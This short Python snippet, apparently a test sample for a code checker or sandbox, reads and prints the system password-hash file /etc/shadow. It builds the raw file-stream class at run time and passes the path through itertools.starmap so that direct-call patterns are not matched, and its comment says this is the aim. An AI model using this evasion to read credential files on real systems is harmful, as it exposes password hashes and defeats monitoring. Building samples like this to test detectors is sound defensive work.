# The stream type is found at run time and the secret path reaches it as an
# argument tuple through itertools.starmap (not a call, kwargs, ** or map).
import itertools

Raw = type(open(__file__, "rb").raw)
handle = next(itertools.starmap(Raw, [("/etc/shadow",)]))
print(handle.read().decode(errors="replace"))
